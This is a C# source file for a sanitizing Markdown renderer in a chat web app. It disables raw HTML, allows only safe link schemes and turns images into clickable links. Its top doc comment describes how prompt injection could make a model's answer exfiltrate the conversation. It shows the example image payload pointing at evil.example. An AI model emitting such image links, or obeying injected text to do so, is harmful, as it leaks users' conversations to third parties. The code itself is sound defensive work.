using Ganss.Xss;
using Markdig;

namespace StarStudio.Web.Markdown;

/// <summary>
/// Markdown to safe HTML: raw HTML in the source is not passed through, and the output is sanitized again.
/// Images are never loaded: each becomes a link the reader may follow. A model's answer can be steered by
/// prompt injection (a public star's knowledge, a fetched page), and an image URL is fetched by the browser
/// without a click, so <c>![](https://evil.example/?q=the conversation)</c> would carry the conversation away.
/// </summary>
public sealed class MarkdownRenderer
{
    private static readonly MarkdownPipeline Pipeline = new MarkdownPipelineBuilder()
        .DisableHtml()
        .UsePipeTables()
        .UseEmphasisExtras()
        .UseAutoLinks()
        .UseTaskLists()
        .Build();

    private readonly HtmlSanitizer sanitizer = CreateSanitizer();

    public string ToHtml(string? markdown) =>
        string.IsNullOrEmpty(markdown) ? "" : sanitizer.Sanitize(Markdig.Markdown.ToHtml(markdown, Pipeline));

    private static HtmlSanitizer CreateSanitizer()
    {
        var sanitizer = new HtmlSanitizer();
        sanitizer.AllowedSchemes.Clear();
        sanitizer.AllowedSchemes.UnionWith(["http", "https", "mailto"]);
        sanitizer.AllowedAttributes.Remove("style");
        // Links open in a new tab without giving the target page a handle on ours.
        sanitizer.PostProcessNode += (_, e) =>
        {
            if (e.Node is AngleSharp.Dom.IElement { TagName: "A" } a)
            {
                a.SetAttribute("rel", "noopener noreferrer nofollow");
                a.SetAttribute("target", "_blank");
            }
            else if (e.Node is AngleSharp.Dom.IElement { TagName: "IMG" } img)
            {
                ReplaceImageWithLink(img);
            }
        };
        return sanitizer;
    }

    /// <summary>An image becomes "🖼 alt text" linking to its address (or plain text when it has no usable address).</summary>
    private static void ReplaceImageWithLink(AngleSharp.Dom.IElement img)
    {
        var document = img.Owner!;
        var src = img.GetAttribute("src");
        var alt = img.GetAttribute("alt");
        var label = "\U0001F5BC " + (string.IsNullOrWhiteSpace(alt) ? src ?? "" : alt);
        AngleSharp.Dom.INode replacement;
        if (!string.IsNullOrWhiteSpace(src))
        {
            var link = document.CreateElement("a");
            link.SetAttribute("href", src);
            link.SetAttribute("rel", "noopener noreferrer nofollow");
            link.SetAttribute("target", "_blank");
            link.SetAttribute("class", "md-image-link");
            link.SetAttribute("title", src);
            link.TextContent = label;
            replacement = link;
        }
        else
        {
            replacement = document.CreateTextNode(label);
        }

        img.Parent!.ReplaceChild(replacement, img);
    }
}
